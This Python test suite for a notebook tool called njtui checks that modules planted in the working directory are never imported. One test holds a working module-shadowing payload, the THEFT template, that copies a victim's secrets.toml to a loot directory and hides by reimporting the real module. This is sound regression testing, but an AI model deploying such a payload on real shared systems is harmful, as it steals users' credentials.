"""Nothing njtui starts runs code from the directory the person is in (docs/security.md,
"Nothing from the working directory").

A module named like every standard-library module (and like njtui, the bridge's imports and
site's hooks) is planted in a directory; njtui is run from there. Each planted module, if it
were ever imported, would write its name into a marker directory. The relay, the Python and
Bash agents and the Jupyter bridge (and its kernel) all run; no marker may appear.

The real `njtui` console script is used, as a person types `njtui`: its sys.path starts with
the script's own directory, not the working directory (`python -m njtui` would put the working
directory first for the command itself, which is the person's choice, not njtui's).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from njtui.model import Cell, Notebook, RuntimeSpec
from njtui.store import save_notebook
from tests.conftest import REPO
from tests.test_private_state import SECRET, User, _as, _victim_njtui, users  # noqa: F401 - users is a fixture

# What else a Python process here imports by name at start or on the way: site's hooks, njtui
# itself, the bridge's own modules and the kernel's launcher.
EXTRA_NAMES = ("sitecustomize", "usercustomize", "njtui", "agent", "jupyter_client", "ipykernel_launcher", "ipykernel", "zmq", "IPython", "traitlets", "platformdirs", "docker")


def planted_names() -> list[str]:
    names = {name for name in sys.stdlib_module_names if name.isidentifier()}
    return sorted(names | set(EXTRA_NAMES))


def plant(directory: Path, markers: Path) -> int:
    """A module of each name in `directory`; importing one writes `markers/<name>`."""
    names = planted_names()
    for name in names:
        (directory / f"{name}.py").write_text(f"open({str(markers / name)!r}, 'w').close()\nraise SystemExit('planted {name} ran')\n")
    return len(names)


def notebook_of_every_agent(directory: Path, python: str = "import json\nprint(json.dumps({'ran': 'python'}))\n", kernel: str = "import json\nprint(json.dumps({'ran': 'kernel'}))\n") -> Path:
    notebook = Notebook(title="working directory")
    notebook.runtimes["py"] = RuntimeSpec("py", "python", default=True)
    notebook.runtimes["sh"] = RuntimeSpec("sh", "bash", default=True)
    notebook.runtimes["k"] = RuntimeSpec("k", "python", type="jupyter", kernel="python3")
    notebook.cells = [
        Cell(id="p", kind="code", language="python", source=python, runtime="py"),
        Cell(id="s", kind="code", language="bash", source="echo ran bash\n", runtime="sh"),
        Cell(id="k", kind="code", language="python", source=kernel, runtime="k"),
    ]
    path = directory / "nb.toml"
    save_notebook(notebook, path)
    return path


def console_script() -> str:
    script = Path(sys.executable).parent / "njtui"
    assert script.exists(), f"the njtui console script is not installed beside {sys.executable}"
    return str(script)


def test_a_module_planted_in_the_working_directory_runs_in_no_process_njtui_starts(tmp_path):
    planted, markers, home = tmp_path / "planted", tmp_path / "markers", tmp_path / "notebooks"
    for directory in (planted, markers, home):
        directory.mkdir()
    count = plant(planted, markers)
    assert count > 250
    path = notebook_of_every_agent(home)

    result = subprocess.run([console_script(), "run", str(path)], cwd=planted, capture_output=True, text=True, timeout=180)

    assert sorted(p.name for p in markers.iterdir()) == [], result.stderr
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ['{"ran": "python"}', "ran bash", '{"ran": "kernel"}']


def test_cells_still_import_from_the_notebooks_directory(tmp_path):
    """The agents' own imports never come from there; the cells' do, as in Jupyter."""
    home = tmp_path / "notebooks"
    home.mkdir()
    (home / "helper_module.py").write_text("ANSWER = 42\n")
    path = notebook_of_every_agent(home, python="import helper_module\nprint(helper_module.ANSWER)\n", kernel="import helper_module\nprint(helper_module.ANSWER + 1)\n")

    result = subprocess.run([console_script(), "run", str(path)], cwd=tmp_path, capture_output=True, text=True, timeout=180)

    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["42", "ran bash", "43"]


# The attacker's module: named like one the relay imports, it copies the victim's secret store
# where the attacker can read it, and lets everything go on as if nothing happened.
THEFT = r"""
import os, shutil, sys
loot = {loot!r}
store = os.path.join(os.environ.get("HOME", ""), ".config", "njtui", "secrets.toml")
try:
    shutil.copy(store, os.path.join(loot, "secrets-%d.toml" % os.getpid()))
except Exception as exc:
    open(os.path.join(loot, "ran-%d" % os.getpid()), "w").write(repr(exc))
del sys.modules[__name__]
sys.path[:] = [entry for entry in sys.path if entry not in ("", os.getcwd())]
import {name}  # the real one, so the victim sees nothing wrong
"""


def test_another_users_module_in_a_shared_working_directory_cannot_steal_the_victims_secrets(users, tmp_path):  # noqa: F811 - the fixture imported above
    attacker, victim = users("attacker"), users("victim")
    command, env = _victim_njtui(victim)
    # As the `njtui` script starts, not `python -m njtui` (which puts the directory first for
    # the command itself, the person's own doing).
    command = [command[0], "-P", *command[1:]]
    shared = Path(f"/tmp/njtui-shared-{os.getpid()}")
    loot = attacker.home / "loot"
    shutil.rmtree(shared, ignore_errors=True)
    try:
        subprocess.run(_as(attacker, ["mkdir", "-m", "1777", str(shared)]), check=True)
        subprocess.run(_as(attacker, ["mkdir", "-m", "1777", str(loot)]), check=True)
        attacker.home.chmod(0o711)
        for name in ("argparse", "selectors", "array", "json", "signal", "subprocess", "shutil", "socket", "secrets", "fcntl"):
            script = attacker.home / f"{name}.py"
            script.write_text(THEFT.format(loot=str(loot), name=name))
            subprocess.run(["chown", f"{attacker.name}:", str(script)], check=True)
            subprocess.run(_as(attacker, ["cp", str(script), str(shared / f"{name}.py")]), check=True)

        work = victim.home / "nb"
        work.mkdir()
        notebook = Notebook(title="secret")
        notebook.runtimes["py"] = RuntimeSpec("py", "python", default=True, secrets={"TOKEN": "token"})
        notebook.runtimes["sh"] = RuntimeSpec("sh", "bash", default=True, secrets={"TOKEN": "token"})
        notebook.cells = [
            Cell(id="p", kind="code", language="python", source="import os\nprint(len(os.environ['TOKEN']))\n", runtime="py"),
            Cell(id="s", kind="code", language="bash", source='echo "${#TOKEN}"\n', runtime="sh"),
        ]
        save_notebook(notebook, work / "sec.toml")
        subprocess.run(["chown", "-R", f"{victim.name}:", str(victim.home)], check=True)
        stored = subprocess.run(_as(victim, [*command, "secrets", "set", "token"], env), input=SECRET + "\n", capture_output=True, text=True, cwd=victim.home)
        assert stored.returncode == 0, stored.stderr

        for _ in range(2):  # the finding: the second run found the store copied by the first
            ran = subprocess.run(_as(victim, [*command, "run", str(work / "sec.toml")], env), cwd=shared, capture_output=True, text=True, timeout=180)
            assert ran.returncode == 0, ran.stderr
            assert ran.stdout.split() == [str(len(SECRET))] * 2

        assert sorted(p.name for p in loot.iterdir()) == [], "a planted module ran as the victim"
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_every_python_process_njtui_starts_has_a_safe_path():
    """The flag itself, where every Python process njtui starts is put together."""
    from njtui.runner.host import own_environment, own_python

    assert own_python() == [sys.executable, "-P"]
    assert own_environment({"PYTHONPATH": f":rel:{REPO}:."}) == {"PYTHONPATH": str(REPO)}
    assert own_environment({"PYTHONPATH": ":"}) == {}
    probe = subprocess.run([*own_python(), "-c", "import json, sys; print(json.dumps(sys.path))"], cwd="/tmp", capture_output=True, text=True, check=True)
    assert "" not in json.loads(probe.stdout) and "/tmp" not in json.loads(probe.stdout)
